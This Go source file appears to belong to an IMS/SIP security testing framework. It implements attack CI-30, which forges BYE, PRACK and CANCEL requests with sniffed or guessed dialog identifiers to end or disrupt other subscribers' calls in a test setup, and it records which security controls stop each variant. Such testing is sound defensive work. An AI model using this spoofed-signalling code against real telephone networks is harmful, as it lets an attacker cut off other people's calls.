package attack

import (
	"context"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"time"

	"imsafe/client/ue"
	"imsafe/proto/sip"
	"imsafe/secure"
)

// dialogKill: somebody who has read the identifiers of a call ends it.
func dialogKill() Attack {
	return Attack{
		ID: "ci.dialog.kill", Number: "CI-30", Title: "ending a call of others",
		Text:     "identifiers of a call are no secret: whoever saw them could end it",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption, Destruction}, Module: ServicesControl,
		Source: "TS 33.203 7.1; RFC 3261 12.2", Access: both(),
		Bounds: Bounds{Packets: 160, Bytes: 150_000, Conns: 24, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "subscriber", Position: Subscriber, Run: killAsSubscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
			{Name: "own-way", Position: Subscriber, Run: killByOwnWay, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
			{Name: "stranger", Position: OffPath, Run: killAsStranger,
				Controls: []secure.ControlID{secure.CIAuthorizationProtectedPort, secure.CIIntegrityDialogOwner}},
			{Name: "prack", Position: Subscriber, Run: acknowledgeForAnother, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
			{Name: "cancel", Position: Subscriber, Run: cancelForAnother, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner},
				NoAblation: "a CANCEL is matched with the INVITEs of its own connection or association (RFC 3261 9.2): no setting takes that away"},
		},
	}
}

func killAsSubscriber(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	return kill(ctx, f, o, mallory, nil)
}

// killByOwnWay goes into the core by the entry of a dialog of the attacker's own, and from there by the way of the call of others.
func killByOwnWay(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	own, _, err := mallory.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	var entry []string
	for _, line := range own.Lines {
		if isOfServing(line) {
			break
		}
		entry = append(entry, strings.TrimPrefix(line, "Route: "))
	}
	return kill(ctx, f, o, mallory, entry)
}

// isOfServing reports whether an entry of a route is that of an S-CSCF.
func isOfServing(entry string) bool {
	return strings.Contains(entry, "sip:orig@") || strings.Contains(entry, "sip:term@")
}

func killAsStranger(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.Stranger(ctx)
	if err != nil {
		return err
	}
	return kill(ctx, f, o, stranger, nil)
}

// How many requests end a call of others, and how many of them with all that a reader of its signalling knows: in the rest its identifiers are guessed.
const (
	kills   = 100
	sniffed = 10
)

// kill sends BYE in the name of either end of a call between alice and bob.
func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []string) error {
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer func() { out.Hangup(); in.Hangup() }()
	over := false
	for i := range sniffed {
		leg, err := []*ue.Call{out, in}[i%2].Leg(ctx)
		if err != nil {
			return err
		}
		bye := Request{Method: "BYE", URI: leg.Target, From: leg.Local, FromTag: leg.LocalTag, To: leg.Remote, ToTag: leg.RemoteTag,
			CallID: leg.CallID, CSeq: leg.Seq + 100 + uint32(i)}
		route := leg.Route
		if at := slices.IndexFunc(route, isOfServing); entry != nil && at >= 0 {
			route = slices.Concat(entry, route[at:])
		}
		for _, r := range route {
			bye.Lines = append(bye.Lines, "Route: "+r)
		}
		status, err := killer.answered(ctx, killer.Text(bye))
		if err != nil {
			return err
		}
		if status == 0 {
			continue
		}
		o.Arrived("%d BYEs, the last answered %d", i+1, status)
		if over = status == 200; over {
			break
		}
	}
	for i := sniffed; i < kills && !over; i++ {
		if err := killer.Write(killer.Text(Request{Method: "BYE", URI: f.Bob.IMPU, From: f.Alice.IMPU, FromTag: f.token(), ToTag: f.token()})); err != nil {
			return err
		}
	}
	o.Wire(false, "%d BYEs, %d of them with identifiers that were sniffed, if none of them ends the call", kills, sniffed)
	if err := f.stillTalk(ctx, out, in); err != nil {
		o.Users = 2
		o.Peer(true, "%v", err)
		return nil
	}
	o.Peer(false, "alice and bob go on talking")
	return attackOver(Part(ctx, out, in))
}

// acknowledgeForAnother sends PRACKs in carol's name while bob's telephone, which she calls, waits for hers: one that takes them goes on, and refuses hers.
func acknowledgeForAnother(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	_, in, early, err := carol.ringsUp(ctx, f.Bob, "Require: 100rel")
	if err != nil {
		return err
	}
	defer in.Hangup()
	inside, err := insideOf(early, f.Bob.IMPU)
	if err != nil {
		return err
	}
	seq := string(early.Get(sip.HdrRSeq))
	prack := inside
	prack.Method, prack.From, prack.FromTag = "PRACK", carol.IMPU, carol.tag
	for i := range sniffed {
		prack.CSeq, prack.Lines = carol.number+100+uint32(i), append(slices.Clone(inside.Lines), fmt.Sprintf("RAck: %s %d INVITE", seq, carol.number))
		status, err := mallory.answered(ctx, mallory.Text(prack))
		if err != nil {
			return err
		}
		o.Arrived("%d PRACKs, the last answered %d", i+1, status)
		if status == 200 {
			break
		}
	}
	prack.CSeq, prack.Lines = carol.number+1, append(slices.Clone(inside.Lines), fmt.Sprintf("RAck: %s %d INVITE", seq, carol.number))
	answer, err := carol.Ask(ctx, carol.Text(prack))
	if err != nil {
		return err
	}
	taken := answer.Status() != 200
	if taken {
		o.Users = 2
	}
	o.Peer(taken, "carol acknowledges that bob's telephone has got her call, and is answered %d", answer.Status())
	return nil
}

// cancelForAnother sends CANCELs for a call of carol's that rings at bob's, exactly as she would, over connections of his own: of strangers, and of a subscriber.
func cancelForAnother(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	killers := []*Hand{mallory}
	for range kills/sniffed - 1 { // each may be on another thread of the target, which knows its own calls alone
		h, err := f.Stranger(ctx)
		if err != nil {
			return err
		}
		killers = append(killers, h)
	}
	invite, in, early, err := carol.ringsUp(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer in.Hangup()
	matched, heard := 0, 0
	for _, h := range killers {
		status, err := h.answered(ctx, cancel(invite))
		if err != nil {
			return err
		}
		if status == 200 {
			matched++
		}
		if status != 0 { // an unprotected port beside protected ones answers nothing
			heard++
		}
		for range kills/len(killers) - 1 {
			guessed := h.Text(Request{Method: "CANCEL", URI: f.Bob.IMPU, From: carol.IMPU, FromTag: carol.tag, CallID: string(early.Get(sip.HdrCallID)), CSeq: carol.number})
			if err := h.Write(guessed); err != nil {
				return err
			}
		}
	}
	o.Arrived("%d CANCELs, %d of them as carol's own would be; %d of these are answered", kills, len(killers), heard)
	o.Wire(matched > 0, "%d CANCELs of others are taken for carol's", matched)
	in.Answer(ue.Voice{})
	answer, err := carol.Await(ctx, func(m *sip.Message) bool {
		return isFinal(m) && string(m.Get(sip.HdrCallID)) == string(early.Get(sip.HdrCallID))
	})
	if err != nil {
		return err
	}
	ended := answer.Status() != 200
	o.Peer(ended, "bob takes carol's call, and she hears %d", answer.Status())
	if ended {
		o.Users = 2
		return nil
	}
	_, err = carol.acknowledges(answer, f.Bob.IMPU)
	return err
}

// ringsUp calls a party, with further header lines, whose telephone rings: the INVITE, the call at its end and the first provisional response that it has made.
func (h *Hand) ringsUp(ctx context.Context, p *Party, lines ...string) (invite string, in *ue.Call, early *sip.Message, err error) {
	invite = h.Text(Request{Method: "INVITE", URI: p.IMPU, Lines: append(lines, "Contact: "+h.Contact(), "Content-Type: application/sdp"),
		Body: describes(netip.AddrPortFrom(h.f.here(), 9))})
	callID := lineOf(invite, "Call-ID: ")
	if err = h.Write(invite); err != nil {
		return
	}
	if in, err = p.Rung(ctx); err != nil {
		return
	}
	in.Ring()
	early, err = h.Await(ctx, func(m *sip.Message) bool { return m.Status() > 100 && string(m.Get(sip.HdrCallID)) == callID })
	if err == nil && early.Status() >= 200 {
		err = fmt.Errorf("attack: %s's call is answered %d", h.Name, early.Status())
	}
	return
}

// attackOver names an error of what comes behind an attack.
func attackOver(err error) error {
	if err != nil {
		return fmt.Errorf("after the attack: %w", err)
	}
	return nil
}

// stillTalk waits until both ends of a call have got more media than they have now.
func (f *Field) stillTalk(ctx context.Context, out, in *ue.Call) error {
	ctx, cancel := Bounded(ctx, reachable)
	defer cancel()
	for _, c := range []*ue.Call{out, in} {
		before := c.Media().PacketsIn
		for c.Media().PacketsIn < before+3 {
			select {
			case <-out.Done():
				return fmt.Errorf("the call of alice and bob is over at alice's: %s", out.Result().Reason)
			case <-in.Done():
				return fmt.Errorf("the call of alice and bob is over at bob's: %s", in.Result().Reason)
			case <-ctx.Done():
				return fmt.Errorf("no more media come: %w", ctx.Err())
			case <-time.After(5 * time.Millisecond):
			}
		}
	}
	return nil
}
